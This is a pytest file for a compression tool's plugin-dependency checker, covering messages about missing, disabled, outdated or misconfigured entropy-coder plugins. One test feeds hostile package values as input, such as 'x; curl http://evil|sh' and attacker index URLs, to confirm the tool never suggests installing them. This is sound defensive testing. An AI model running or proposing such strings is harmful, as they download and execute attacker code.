from pathlib import Path

import pytest

from aictui.codec import needs
from aictui.codec.header import Header
from aictui.codec.info import ComponentReference, ModelReference
from aictui.errors import MissingComponentError, PluginError
from aictui.network.base import OperatingPoint
from aictui.options import OptionValue
from aictui.plugins import PluginSource, Registry
from tests.linear_model import linear_info

pytestmark = pytest.mark.usefixtures("linear")


def header_with(coder: ComponentReference) -> Header:
    """A header that needs nothing but this entropy coder."""
    chunker = ComponentReference("chunker", "rgb16", 1, "", {})
    quantizer = ComponentReference("quantizer", "deadzone", 1, "", {})
    model = ModelReference("linear", linear_info().content_hash)
    return Header(16, 16, False, model, chunker, quantizer, coder, OperatingPoint(0, 1))


def missing(coder: ComponentReference, *sources: PluginSource) -> list[str]:
    """What is missing for this entropy coder where these plugins are installed."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(needs, "registry", lambda: Registry(sources))
        return needs.missing(header_with(coder))


def test_a_component_that_is_not_there_is_to_be_installed() -> None:
    line = "needs entropy coder zap, which is not installed: install it with `aictui plugins install aictui-zap==1.2`"
    assert missing(ComponentReference("entropy coder", "zap", 1, "aictui-zap==1.2", {})) == [line]


@pytest.mark.parametrize(
    ("state", "way"),
    [
        ("disabled", "which is disabled: `aictui plugins enable fast` lets it load"),
        ("not allowed", "which is not allowed: AICTUI_PLUGINS names the plugins that may load"),
    ],
)
def test_a_component_of_a_plugin_that_may_not_load_is_not_to_be_installed(state: str, way: str) -> None:
    source = PluginSource("fast", "aictui_zap", "aictui-zap", "1.2", state=state)
    coder = ComponentReference("entropy coder", "zap", 1, "aictui-zap==1.1", {})
    assert missing(coder, source) == [f"needs entropy coder zap of plugin fast, {way}"]


def test_a_component_that_no_package_supplies_is_that_of_a_file_or_of_a_newer_aictui() -> None:
    (line,) = missing(ComponentReference("entropy coder", "zap", 1, "", {}))
    assert line.endswith(
        "not installed: it came from a plugin in no package, whose file you need, or from a newer aictui"
    )


FILE = """
from aictui.hookspecs import hookimpl
from aictui.entropy.raw import Raw

class Zap(Raw):
    id = "zap"

@hookimpl
def register_entropy_coders(register):
    register(Zap)
"""


@pytest.mark.parametrize(
    ("coder", "package", "way"),
    [
        ("raw", "", "upgrade aictui"),
        ("zap", "", "get another file of plugin fast"),
        ("zap", "aictui-zap==9", "install it with `aictui plugins install aictui-zap==9`"),
    ],
)
def test_a_component_that_is_too_old_is_to_be_had_newer_where_it_came_from(
    tmp_path: Path, coder: str, package: str, way: str
) -> None:
    (tmp_path / "fast.py").write_text(FILE)
    (line,) = missing(
        ComponentReference("entropy coder", coder, 9, package, {}), PluginSource("fast", str(tmp_path / "fast.py"))
    )
    assert line == f"needs entropy coder {coder} version 9, and version 1 is installed: {way}"


OPTIONED = "from aictui.options import Option\n" + FILE.replace(
    'id = "zap"', 'id = "zap"; options = (Option("depth", "int", 5, "how deep", minimum=3, maximum=9),)'
)


@pytest.mark.parametrize(
    ("options", "problem"),
    [
        ({"depth": 4}, None),
        ({"level": 4}, "it has no option 'level'; its options: depth"),
        ({"depth": 1}, "option depth takes a whole number from 3 to 9, not 1"),
    ],
)
@pytest.mark.parametrize(
    ("package", "way"),
    [
        ("", "get another file of plugin fast"),
        ("aictui-zap==9", "install it with `aictui plugins install aictui-zap==9`"),
    ],
)
def test_a_component_that_has_other_options_by_now_is_to_be_had_as_it_was(
    tmp_path: Path, options: dict[str, OptionValue], problem: str | None, package: str, way: str
) -> None:
    (tmp_path / "fast.py").write_text(OPTIONED)
    coder = ComponentReference("entropy coder", "zap", 1, package, options)
    found = missing(coder, PluginSource("fast", str(tmp_path / "fast.py")))
    due = f"needs entropy coder zap with other options than it has here ({problem}): {way}"
    assert found == ([due] if problem else [])


@pytest.mark.parametrize("package", ["x; curl http://evil|sh", "--index-url=http://evil", "git+http://evil"])
def test_nobody_is_told_to_type_what_a_file_made_up(package: str) -> None:
    (line,) = missing(ComponentReference("entropy coder", "unheard-of", 1, package, {}))
    assert "aictui plugins install" not in line
    assert "not a plain package name" in line


def test_the_packages_that_a_file_needs_are_those_that_it_names() -> None:
    assert needs.packages_for(header_with(ComponentReference("entropy coder", "raw", 1, "", {}))) == []
    coder = ComponentReference("entropy coder", "zap", 1, "aictui-zap==1.2", {})
    assert needs.packages_for(header_with(coder)) == ["aictui-zap==1.2"]


@pytest.mark.parametrize(
    ("package", "error", "says"),
    [
        ("", MissingComponentError, "it came from a plugin in no package"),
        ("git+http://evil", PluginError, "not a plain package name"),
    ],
)
def test_what_no_package_brings_is_an_error(package: str, error: type[Exception], says: str) -> None:
    with pytest.raises(error, match=says):
        needs.packages_for(header_with(ComponentReference("entropy coder", "zap", 1, package, {})))
